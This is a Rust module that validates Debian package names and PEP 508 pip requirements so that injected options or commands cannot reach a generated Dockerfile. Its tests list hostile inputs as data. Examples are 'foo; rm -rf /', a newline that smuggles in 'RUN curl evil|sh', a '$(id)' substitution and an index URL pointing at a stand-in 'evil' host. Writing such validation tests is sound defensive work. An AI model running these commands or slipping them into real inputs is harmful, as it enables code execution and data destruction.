//! The package names a profile may ask for: Debian package names for apt and PEP 508
//! requirement strings for pip. Both reach apt-get and pip as single arguments after `--`, but
//! the argument itself must still mean a package: `--allow-unauthenticated`, `-e git+…` or
//! `--index-url=…` are options to those tools, and a newline would end the Dockerfile's `RUN`
//! line and start an instruction of its own. Pure: text in, verdict out.

/// Longer than any real package name or requirement; keeps messages and the Dockerfile sane.
const MAX_LEN: usize = 500;

/// `name[:arch][=version]`, as `apt-get install` accepts it. The name follows Debian Policy
/// 5.6.1: lower-case letters, digits, `+`, `-` and `.`, at least two characters, starting with
/// a letter or digit. The architecture is lower-case letters, digits and `-` (`amd64`,
/// `arm64`, `i386`); the version is Policy 5.6.12's `[epoch:]upstream[-revision]`.
pub fn check_apt(text: &str) -> Result<(), String> {
    common(text)?;
    let (rest, version) = match text.split_once('=') {
        Some((r, v)) => (r, Some(v)),
        None => (text, None),
    };
    let (name, arch) = match rest.split_once(':') {
        Some((n, a)) => (n, Some(a)),
        None => (rest, None),
    };
    let name_ok = name.len() >= 2
        && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "+-.".contains(c));
    if !name_ok {
        return Err(
            "not a Debian package name (lower-case letters, digits, `+`, `-` and `.`, at least two, starting with a letter or digit)"
                .into(),
        );
    }
    if let Some(arch) = arch {
        let ok = !arch.is_empty()
            && arch.starts_with(|c: char| c.is_ascii_alphanumeric())
            && arch
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-');
        if !ok {
            return Err(format!(
                "`{arch}` is not a Debian architecture (e.g. `amd64`)"
            ));
        }
    }
    if let Some(version) = version {
        check_debian_version(version)?;
    }
    Ok(())
}

fn check_debian_version(v: &str) -> Result<(), String> {
    let err = || format!("`{v}` is not a Debian version (e.g. `1:2.39.2-1`)");
    let (epoch, rest) = match v.split_once(':') {
        Some((e, r)) => (Some(e), r),
        None => (None, v),
    };
    if epoch.is_some_and(|e| e.is_empty() || !e.chars().all(|c| c.is_ascii_digit())) {
        return Err(err());
    }
    let ok = rest.starts_with(|c: char| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || ".+~-:".contains(c));
    if ok {
        Ok(())
    } else {
        Err(err())
    }
}

/// A PEP 508 requirement: `name[extras] (version specifiers | @ url) [; markers]`, e.g.
/// `numpy>=2`, `torch==2.6.*`, `black[jupyter] ~= 24.1`, `pkg @ https://…/pkg.whl`,
/// `pywin32; sys_platform == "win32"`. pip options (`-e …`, `--index-url …`, `-r file`) are
/// not requirements.
pub fn check_pip(text: &str) -> Result<(), String> {
    common(text)?;
    if text.chars().any(|c| c.is_whitespace() && c != ' ') {
        return Err("has whitespace other than spaces".into());
    }
    let (spec, marker) = match text.split_once(';') {
        Some((s, m)) => (s, Some(m)),
        None => (text, None),
    };
    let mut rest = spec.trim_start_matches(' ');
    let name_len = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || "._-".contains(c)))
        .unwrap_or(rest.len());
    let name = &rest[..name_len];
    if !is_pep508_name(name) {
        return Err(
            "not a PEP 508 requirement (a project name of letters, digits, `.`, `_` and `-`, starting and ending with a letter or digit, then optional `[extras]`, version specifiers or `@ url`)"
                .into(),
        );
    }
    rest = rest[name_len..].trim_start_matches(' ');
    if let Some(after) = rest.strip_prefix('[') {
        let (extras, tail) = after
            .split_once(']')
            .ok_or("its `[extras]` are not closed")?;
        for extra in extras.split(',').map(|e| e.trim_matches(' ')) {
            if !extra.is_empty() && !is_pep508_name(extra) {
                return Err(format!("`{extra}` is not an extra's name"));
            }
        }
        rest = tail.trim_start_matches(' ');
    }
    if let Some(url) = rest.strip_prefix('@') {
        let url = url.trim_matches(' ');
        let scheme_ok = url.split_once("://").is_some_and(|(s, _)| {
            !s.is_empty()
                && s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
        });
        if !scheme_ok || url.contains(' ') {
            return Err(format!(
                "`{url}` is not a URL (e.g. `https://host/pkg.whl`)"
            ));
        }
    } else {
        check_specifiers(rest.trim_end_matches(' '))?;
    }
    match marker {
        Some(m) => check_marker(m),
        None => Ok(()),
    }
}

/// Rules both kinds share: something there, no option, no control character (a newline would
/// end the Dockerfile's line), nothing a terminal or a reader would show differently.
fn common(text: &str) -> Result<(), String> {
    if text.is_empty() {
        return Err("is empty".into());
    }
    if text.len() > MAX_LEN {
        return Err(format!("is longer than {MAX_LEN} characters"));
    }
    if text.starts_with('-') {
        return Err("starts with `-`: options to apt-get or pip are not package names".into());
    }
    if text.chars().any(char::is_control) {
        return Err("contains a control character (a newline, tab, escape…)".into());
    }
    if text.starts_with(char::is_whitespace) || text.ends_with(char::is_whitespace) {
        return Err("starts or ends with whitespace".into());
    }
    if !text.is_ascii() {
        return Err("contains characters other than ASCII".into());
    }
    Ok(())
}

fn is_pep508_name(name: &str) -> bool {
    !name.is_empty()
        && name.starts_with(|c: char| c.is_ascii_alphanumeric())
        && name.ends_with(|c: char| c.is_ascii_alphanumeric())
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
}

/// `>=1.0, <2` or `(>=1.0,<2)`: comma-separated comparison operators and versions.
fn check_specifiers(text: &str) -> Result<(), String> {
    let text = match text.strip_prefix('(') {
        Some(inner) => inner
            .strip_suffix(')')
            .ok_or("its version specifiers' `(` is not closed")?,
        None => text,
    };
    if text.trim_matches(' ').is_empty() {
        return Ok(());
    }
    for spec in text.split(',') {
        let spec = spec.trim_matches(' ');
        let op = ["===", "~=", "==", "!=", "<=", ">=", "<", ">"]
            .into_iter()
            .find(|op| spec.starts_with(op))
            .ok_or_else(|| format!("`{spec}` is not a version specifier (e.g. `>=2.1`)"))?;
        let version = spec[op.len()..].trim_start_matches(' ');
        let ok = !version.is_empty()
            && version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "._*+!-".contains(c));
        if !ok {
            return Err(format!(
                "`{spec}` is not a version specifier (e.g. `>=2.1`)"
            ));
        }
    }
    Ok(())
}

/// Environment markers, checked token by token: the marker variables, `and`/`or`/`in`/`not`,
/// comparison operators, parentheses and quoted strings.
fn check_marker(text: &str) -> Result<(), String> {
    const VARIABLES: [&str; 14] = [
        "python_version",
        "python_full_version",
        "os_name",
        "sys_platform",
        "platform_release",
        "platform_system",
        "platform_version",
        "platform_machine",
        "platform_python_implementation",
        "implementation_name",
        "implementation_version",
        "extra",
        "and",
        "or",
    ];
    let err = || {
        format!(
            "`{}` is not an environment marker (e.g. `python_version >= \"3.9\"`)",
            text.trim()
        )
    };
    let mut rest = text.trim_start_matches(' ');
    let mut tokens = 0;
    while !rest.is_empty() {
        let c = rest.chars().next().expect("not empty");
        let len = if c == '"' || c == '\'' {
            1 + rest[1..].find(c).ok_or_else(err)? + 1
        } else if "()".contains(c) {
            1
        } else if "<>=!~".contains(c) {
            rest.find(|c: char| !"<>=!~".contains(c))
                .unwrap_or(rest.len())
        } else if c.is_ascii_lowercase() {
            let len = rest
                .find(|c: char| !(c.is_ascii_lowercase() || c == '_'))
                .unwrap_or(rest.len());
            let word = &rest[..len];
            if !VARIABLES.contains(&word) && !["in", "not"].contains(&word) {
                return Err(err());
            }
            len
        } else {
            return Err(err());
        };
        rest = rest[len..].trim_start_matches(' ');
        tokens += 1;
    }
    if tokens == 0 {
        return Err(err());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 9] = [
        "--allow-unauthenticated",
        "foo; rm -rf /",
        "a\nRUN curl evil|sh",
        "-e git+https://evil.example/x.git",
        "--index-url=http://evil",
        "foo\r",
        " foo",
        "foo\u{a0}",
        "",
    ];

    #[test]
    fn hostile_names_are_neither_apt_nor_pip_packages() {
        for text in HOSTILE {
            assert!(check_apt(text).is_err(), "apt accepted {text:?}");
            assert!(check_pip(text).is_err(), "pip accepted {text:?}");
        }
        assert!(check_apt("a$(id)").is_err());
        assert!(check_apt("git\tcurl").is_err());
        assert!(check_pip("numpy\t>=2").is_err());
        assert!(check_pip("foo; rm -rf /").is_err());
        assert!(check_pip("x @ file:///etc/passwd --index-url=http://evil").is_err());
        assert!(check_pip("requests; os_name == 'x'\nRUN id").is_err());
    }

    #[test]
    fn apt_follows_debian_policy_with_arch_and_version() {
        for ok in [
            "git",
            "g++",
            "libstdc++6",
            "python3.11",
            "0ad",
            "libc6:amd64",
            "git=1:2.39.2-1.1",
            "libc6:i386=2.36-9+deb12u4",
            "ca-certificates=20230311",
        ] {
            assert_eq!(check_apt(ok), Ok(()), "{ok}");
        }
        for bad in [
            "Git",
            "g",
            "+git",
            ".git",
            "git_lfs",
            "git=",
            "git=v2",
            "git:",
            "git:AMD64",
            "git=1:",
            "git/bookworm",
        ] {
            assert!(check_apt(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn pip_takes_pep_508_requirements() {
        for ok in [
            "numpy",
            "numpy>=2",
            "torch==2.6.*",
            "it.s_fine-ok",
            "black[jupyter] ~= 24.1",
            "requests[security,socks] >= 2.8.1, == 2.8.*",
            "name (>=1.0,<2)",
            "pkg @ https://example.com/pkg-1.0-py3-none-any.whl",
            "pkg @ git+https://github.com/o/r.git@v1",
            "pywin32; sys_platform == \"win32\"",
            "tomli >= 1.1; python_version < '3.11' and (os_name == 'posix' or extra == 'x')",
        ] {
            assert_eq!(check_pip(ok), Ok(()), "{ok}");
        }
        for bad in [
            "it's",
            "numpy>",
            "numpy >= 2 <3",
            "-r requirements.txt",
            "pkg @ not-a-url",
            "pkg[x",
            "name; rm -rf /",
            "name; python_version >= \"3",
            ".hidden",
            "pkg-",
        ] {
            assert!(check_pip(bad).is_err(), "{bad}");
        }
    }
}
